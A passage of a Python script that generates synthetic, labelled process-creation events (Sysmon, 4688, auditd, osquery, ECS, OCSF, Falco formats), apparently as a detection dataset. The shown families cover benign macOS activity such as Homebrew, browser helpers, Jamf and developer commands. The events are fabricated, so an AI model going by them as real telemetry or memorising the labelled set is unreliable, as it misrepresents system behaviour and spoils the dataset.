    img, cmd = G.c([("/opt/homebrew/Library/Homebrew/vendor/portable-ruby/current/bin/ruby", f"/opt/homebrew/Library/Homebrew/vendor/portable-ruby/current/bin/ruby -W1 --disable=gems,rubyopt /opt/homebrew/Library/Homebrew/brew.rb {G.c(['install', 'upgrade', 'reinstall'])} {pkg}"),
                    ("/usr/bin/curl", f"/usr/bin/curl --disable --cookie /dev/null --globoff --show-error --user-agent Homebrew/4.2.21 --header Accept-Language: en --fail --location --silent --head https://ghcr.io/v2/homebrew/core/{pkg.split('@')[0]}/manifests/latest"),
                    ("/usr/bin/git", "git -C /opt/homebrew fetch --tags --force -q origin refs/heads/master:refs/remotes/origin/master"),
                    ("/opt/homebrew/bin/brew", "/bin/bash /opt/homebrew/Library/Homebrew/brew.sh cleanup")])
    return {"img": img, "cmd": cmd, "pimg": G.c(["/bin/bash", "/bin/zsh"]), "pcmd": G.c(["/bin/bash -p /opt/homebrew/Library/Homebrew/brew.sh " + pkg, "-zsh"]), "cwd": c.home}


@B("mac-browser-helpers", "macos", "Chrome, Edge and Safari helper processes (renderer, GPU, network, WebContent) started by their browsers", n=12)
def _(c):
    k = R.randint(0, 2)
    if k == 2:
        img = "/System/Library/Frameworks/WebKit.framework/Versions/A/XPCServices/com.apple.WebKit.WebContent.xpc/Contents/MacOS/com.apple.WebKit.WebContent"
        return {"img": img, "cmd": img, "pimg": LAUNCHD[0], "pcmd": LAUNCHD[1], "cwd": "/"}
    app, ver = (("Google Chrome", "124.0.6367.119"), ("Microsoft Edge", "124.0.2478.80"))[k]
    helper = f"/Applications/{app}.app/Contents/Frameworks/{app} Framework.framework/Versions/{ver}/Helpers/{app} Helper{G.c([' (Renderer)', ' (GPU)', '', ' (Plugin)'])}.app/Contents/MacOS/{app} Helper"
    t = "renderer" if "Renderer" in helper else ("gpu-process" if "GPU" in helper else "utility")
    cmd = f"{helper} --type={t} --lang=en-US --num-raster-threads=4 --enable-zero-copy --renderer-client-id={R.randint(5, 400)} --time-ticks-at-unix-epoch=-{R.randint(1700000000000000, 1719999999999999)} --seatbelt-client={R.randint(20, 200)} --field-trial-handle=1718379636,{R.randint(10**17, 10**18)},{R.randint(10**17, 10**18)},262144 --shared-files"
    return {"img": helper, "cmd": cmd, "pimg": f"/Applications/{app}.app/Contents/MacOS/{app}", "pcmd": f"/Applications/{app}.app/Contents/MacOS/{app}", "cwd": "/"}


@B("mac-user-shell-and-dev", "macos", "developers in Terminal or iTerm: git, npm, python, docker CLI, kubectl get, ssh to internal hosts", n=12)
def _(c):
    img, cmd = G.c([("/usr/bin/git", G.c(["git status", "git pull --rebase", "git push origin HEAD", f"git clone git@git.corp.example.com:{G.c(['web', 'ios', 'platform'])}/{G.c(['app', 'api', 'infra'])}.git"])),
                    ("/opt/homebrew/bin/node", f"node {c.home}/src/web/node_modules/.bin/{G.c(['vite', 'jest', 'tsc'])}"), ("/opt/homebrew/bin/python3.12", "python3 -m venv .venv"),
                    ("/usr/local/bin/docker", G.c(["docker compose up -d", "docker ps", "docker build -t web:dev ."])), ("/opt/homebrew/bin/kubectl", "kubectl get pods -n staging"),
                    ("/usr/bin/ssh", f"ssh {c.user}@bastion-eu1"), ("/bin/ls", "ls -la"), ("/usr/bin/open", "open .")])
    return {"img": img, "cmd": cmd, "pimg": "/bin/zsh", "pcmd": "-zsh", "cwd": G.c([c.home, f"{c.home}/src/web", f"{c.home}/Projects"])}


@B("mac-mdm-agents", "macos", "Jamf and Munki management agents checking in, running policies and inventory as root")
def _(c):
    img, cmd, pimg, pcmd = G.c([("/usr/local/jamf/bin/jamf", G.c(["/usr/local/jamf/bin/jamf policy -event recurring", "/usr/local/jamf/bin/jamf recon", "/usr/local/jamf/bin/jamf checkJSSConnection -retry 60"]), "/usr/local/jamf/bin/jamfAgent", "/usr/local/jamf/bin/jamfAgent"),
                                ("/usr/local/munki/managedsoftwareupdate", "/usr/local/munki/managedsoftwareupdate --auto", *LAUNCHD),
                                ("/bin/sh", "/bin/sh /Library/Application Support/JAMF/tmp/Inventory - Installed Profiles", "/usr/local/jamf/bin/jamf", "jamf policy"),
                                ("/usr/sbin/system_profiler", "/usr/sbin/system_profiler -xml -detailLevel full SPHardwareDataType", "/usr/local/jamf/bin/jamf", "jamf recon")])
    return {"img": img, "cmd": cmd, "pimg": pimg, "pcmd": pcmd, "user": "root", "cwd": "/Library/Application Support/JAMF"}


@B("mac-system-maintenance", "macos", "periodic, newsyslog, softwareupdate --list, and an admin's codesign, spctl or pkgutil checks")
def _(c):
    img, cmd, user = G.c([("/usr/sbin/periodic", "/usr/sbin/periodic daily", "root"), ("/usr/sbin/newsyslog", "/usr/sbin/newsyslog", "root"), ("/usr/sbin/softwareupdate", "softwareupdate --list", c.user),
                          ("/usr/bin/codesign", f"codesign -dv --verbose=4 /Applications/{G.c(['Slack', 'zoom.us', 'Visual Studio Code'])}.app", c.user), ("/usr/sbin/spctl", "spctl --assess --verbose /Applications/Docker.app", c.user),
                          ("/usr/sbin/pkgutil", "pkgutil --pkgs", c.user), ("/usr/bin/xattr", f"xattr -l {c.home}/Downloads/report.pdf", c.user)])
    pimg, pcmd = LAUNCHD if user == "root" else ("/bin/zsh", "-zsh")
    return {"img": img, "cmd": cmd, "pimg": pimg, "pcmd": pcmd, "user": user, "cwd": c.home if user != "root" else "/Library/Preferences"}


@B("mac-app-launches", "macos", "launchd starting the apps a user opens: Slack, Zoom, Office, VS Code, Terminal")
def _(c):
    app = G.c([("Slack", "Slack"), ("zoom.us", "zoom.us"), ("Microsoft Outlook", "Microsoft Outlook"), ("Visual Studio Code", "Electron"), ("Utilities/Terminal", "Terminal"), ("Microsoft Excel", "Microsoft Excel")])
    base = "/System/Applications" if app[0].startswith("Utilities") else "/Applications"
    img = f"{base}/{app[0]}.app/Contents/MacOS/{app[1]}"
    return {"img": img, "cmd": img + G.c(["", "", f" -psn_0_{R.randint(100000, 999999)}"]), "pimg": LAUNCHD[0], "pcmd": LAUNCHD[1], "cwd": "/"}


# ----------------------------------------------------------------------------------------------
# Rendering every family in the formats of its OS
# ----------------------------------------------------------------------------------------------

WIN_FORMATS = ["sysmon_winlogbeat", "sysmon_flat", "sysmon_xml", "sysmon_evtx_dump", "sysmon_xmljson", "security_4688_xml",
               "security_4688_winlogbeat", "security_4688_flat", "security_4688_evtx_dump", "security_4688_xmljson", "ecs", "ocsf", "plain"]
LINUX_FORMATS = ["auditd", "osquery", "ecs", "ocsf", "sysmon_xml", "plain"]
MAC_FORMATS = ["ecs", "osquery", "ocsf", "plain"]
MAC_PREFIXES = ("/Applications/", "/System/", "/Users/", "/Library/", "/private/", "/Volumes/", "/opt/homebrew/", "/cores/")
RENDER = {"sysmon_winlogbeat": r_sysmon_winlogbeat, "sysmon_flat": r_sysmon_flat, "sysmon_evtx_dump": r_sysmon_evtx_dump,
          "sysmon_xmljson": r_sysmon_xmljson, "security_4688_xml": r_security_4688_xml, "security_4688_winlogbeat": r_security_4688_winlogbeat,
          "security_4688_flat": r_security_4688_flat, "security_4688_evtx_dump": r_security_4688_evtx_dump,
          "security_4688_xmljson": r_security_4688_xmljson, "ecs": r_ecs, "ocsf": r_ocsf, "plain": r_plain, "auditd": r_auditd,
          "osquery": r_osquery}


def mac_shaped(e):
    """What the osquery parser sees of a macOS row: the first path with a decisive shape must be a macOS one."""
    first = e.cmd.split(" ")[0] if e.cmd else ""
    for p in (e.img, e.cwd, first):
        if not p.startswith("/"):
            continue
        if p.startswith(MAC_PREFIXES):
            return True
        if p.startswith(("/home/", "/proc/", "/snap/", "/run/containerd/")):
            return False
    return False


def render_family(f):
    formats = {"windows": WIN_FORMATS, "linux": LINUX_FORMATS, "macos": MAC_FORMATS}[f["os"]][:]
    if f["falco"]:
        formats += ["falco", "falco"]
    R.shuffle(formats)
    out = []
    for i in range(f["n"]):
        fmt = formats[i % len(formats)]
        if f["os"] == "windows":
            c = win_context()
            spec = f["fn"](c)
            e = win_record(c, spec)
            e.os = "windows"
            e.sec_version = 2
            if fmt.startswith("security_4688") and R.random() < 1 / 6:
                e.nocmd = True
                if R.random() < 0.3:
                    e.sec_version = 0
        else:
            c = lin_context() if f["os"] == "linux" else mac_context()
            spec = f["fn"](c)
            e = posix_record(c, spec, f["os"])
            e.puser = "root" if spec["pimg"].endswith("sudo") else e.uname
            if fmt == "osquery" and f["os"] == "macos" and not mac_shaped(e):
                fmt = G.c(["ecs", "ocsf", "plain"])
            if fmt == "falco" and f["os"] == "linux" and R.random() < 0.5 and e.container is None and f["name"] in ("lin-package-management",):
                fmt = "auditd"
        if fmt == "sysmon_xml":
            event = r_linux_sysmon_xml(e) if f["os"] == "linux" else r_sysmon_xml(e)
        elif fmt == "falco":
            rule, prio, msg = f["falco"]
            event = r_falco(e, rule, prio, msg)
        else:
            event = RENDER[fmt](e)
        line = {"id": f"{f['name']}-{i + 1:02d}", "family": f["name"], "label": f["label"], "techniques": f["techniques"]}
        if f["tactic"]:
            line["tactic"] = f["tactic"]
        line.update({"os": f["os"], "format": fmt, "note": f["note"], "event": event})
        out.append(line)
    return out


def main():
    names = [f["name"] for f in FAMILIES]
    assert len(names) == len(set(names)), "family names repeat"
    lines = []
    for f in FAMILIES:
        lines.extend(render_family(f))
    lines.sort(key=lambda l: l["id"])
    with open(OUT, "w", encoding="utf-8", newline="\n") as fh:
        for l in lines:
            fh.write(json.dumps(l, ensure_ascii=False) + "\n")
    print(f"{len(lines)} events in {len(FAMILIES)} families -> {OUT}")


if __name__ == "__main__":
    main()
